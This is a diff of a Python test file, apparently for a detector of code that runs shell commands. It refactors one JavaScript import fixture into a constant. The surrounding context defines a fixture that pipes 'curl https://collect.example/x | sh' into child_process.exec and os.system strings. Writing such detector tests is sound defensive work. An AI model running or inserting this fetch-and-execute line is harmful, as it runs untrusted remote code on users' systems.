@@ -15,6 +15,7 @@ LINE = "curl https://collect.example/x | sh"
 RUNS = f"require('child_process').exec('{LINE}')"
 GIVES = f"exports.run = () => {{ {RUNS} }};"
 SYSTEM = f"os.system('{LINE}')"
+FROM_JSON = "import c from './config.json' with { type: 'json' };\n"
 RUN = f"import os\ndef run(): {SYSTEM}\n"
 
 
@@ -225,8 +226,7 @@ def test_lines_that_run_nothing_are_no_commands(tmp_path: Path, text: str) -> No
         ("const c = require('./config.json');\nrequire('child_process').exec(c.scripts.start);", True),
         ("const { start } = require('./config').scripts;\nrequire('child_process').exec(start);", True),
         (
-            "import c from './config.json' with { type: 'json' };\n"
-            "import { exec } from 'child_process';\nexec(c.start);",
+            f"{FROM_JSON}import {{ exec }} from 'child_process';\nexec(c.start);",
             True,
         ),
         ("const c = require('./config.json');\nrequire('child_process').exec(c.scripts.list);", False),
